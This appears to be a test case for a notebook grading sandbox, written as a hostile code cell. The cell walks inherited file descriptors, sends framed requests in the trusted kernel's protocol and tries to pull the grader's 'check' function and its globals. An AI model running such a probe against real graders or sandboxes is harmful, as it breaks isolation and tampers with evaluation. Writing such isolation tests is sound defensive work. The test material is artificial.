"""The student's kernel sends requests of its own, as the trusted one does."""

INTENT = "the trusted kernel or the grader answers out of its namespace"
EXPECTED = {}
OURS_ONLY = True
MAY_LOSE_OTHERS = True
DESTRUCTIVE = True
CELLS = [
    """
import json
import os
import socket
import struct

frames = b""
for request in ({"name": "check"}, {"object": 0, "attribute": "__globals__"}, {"names": ["check"]}):
    text = json.dumps(request).encode()
    frames += struct.pack("!4sIQ", b"CNN1", len(text), 0) + text
for fd in range(3, 32):
    try:
        sock = socket.socket(fileno=os.dup(fd))
        sock.settimeout(0.5)
        sock.sendall(frames)
        print(fd, sock.recv(1000))
    except OSError as error:
        print(fd, error)
"""
]
